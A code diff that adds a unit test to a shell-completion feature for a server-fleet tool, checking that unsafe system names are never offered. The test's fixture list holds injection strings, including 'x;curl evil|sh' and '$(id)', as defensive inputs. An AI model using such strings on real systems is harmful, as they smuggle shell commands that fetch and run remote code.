@@ -42,6 +42,12 @@ describe('completion', () => {
     expect(offer('apply --wait ')).toEqual([])
   })
 
+  it('offers nothing of a minion that a shell would act on', () => {
+    const systems = ['debian', 'x;curl evil|sh', '$(id)', 'a b', '\u001b[2J', '']
+
+    expect(offer('ping os=', { ...FACTS, systems })).toEqual(['os=debian'])
+  })
+
   it('offers target words with the names of this fleet', () => {
     expect(offer('apply ')).toEqual(['db1', 'db2', 'web1', 'role=', 'level=', 'id=', 'os=', 'grain.', 'not'])
     expect(offer('apply role=')).toEqual(['role=base', 'role=db'])
